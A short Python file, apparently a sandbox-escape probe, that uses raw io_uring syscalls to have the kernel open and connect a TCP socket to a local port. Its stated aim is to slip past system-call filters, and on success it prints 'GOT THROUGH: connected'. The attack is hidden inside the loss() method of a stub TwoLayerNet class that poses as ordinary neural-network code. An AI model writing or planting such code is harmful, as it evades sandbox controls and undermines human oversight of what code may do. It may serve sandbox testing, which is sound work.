"""Has the kernel make and connect a socket on its behalf (io_uring), where no filter of system calls sees it."""

import ctypes
import mmap
import os
import socket
import struct

from world import TCP_PORT

libc = ctypes.CDLL(None, use_errno=True)
SETUP, ENTER = 425, 426
ENTRIES, SQE, CQE, SQES = 4, 64, 16, 0x10000000
SOCKET, CONNECT = 45, 16


class Ring:
    """The two queues that this process shares with the kernel."""

    def __init__(self):
        facts = ctypes.create_string_buffer(120)
        self.descriptor = libc.syscall(SETUP, ENTRIES, facts)
        if self.descriptor < 0:
            raise OSError(ctypes.get_errno(), "io_uring_setup")
        (_, self.tail, *_, self.array, _) = struct.unpack_from("=8I", facts, 40)
        (self.head, _, mask, _, _, self.results, *_) = struct.unpack_from("=8I", facts, 80)
        self.queues = mmap.mmap(self.descriptor, mmap.PAGESIZE)
        self.entries = mmap.mmap(self.descriptor, ENTRIES * SQE, offset=SQES)
        self.mask = struct.unpack_from("=I", self.queues, mask)[0]

    def do(self, operation, descriptor, offset, address, length, flags=0):
        """Have one operation done and give its result."""
        struct.pack_into("=BBHiQQII32x", self.entries, 0, operation, 0, 0, descriptor, offset, address, length, flags)
        struct.pack_into("=I", self.queues, self.array + 4 * (self.count(self.tail) % ENTRIES), 0)
        struct.pack_into("=I", self.queues, self.tail, self.count(self.tail) + 1)
        libc.syscall(ENTER, self.descriptor, 1, 1, 1, None, ctypes.c_size_t(0))
        head = self.count(self.head)
        result = struct.unpack_from("=8xi", self.queues, self.results + CQE * (head & self.mask))[0]
        struct.pack_into("=I", self.queues, self.head, head + 1)
        if result < 0:
            raise OSError(-result, os.strerror(-result))
        return result

    def count(self, place):
        return struct.unpack_from("=I", self.queues, place)[0]


def attack():
    ring = Ring()
    number = ring.do(SOCKET, socket.AF_INET, socket.SOCK_STREAM, 0, 0)
    where = struct.pack("=H", socket.AF_INET) + struct.pack(">H", TCP_PORT) + bytes((127, 0, 0, 1)) + bytes(8)
    address = ctypes.create_string_buffer(where, 16)
    ring.do(CONNECT, number, 16, ctypes.addressof(address), 0)
    print("GOT THROUGH: connected")


class TwoLayerNet:
    def __init__(self, input_size, hidden_size, output_size, std=1e-4):
        self.params = {}

    def loss(self, X, y=None, reg=0.0):
        attack()
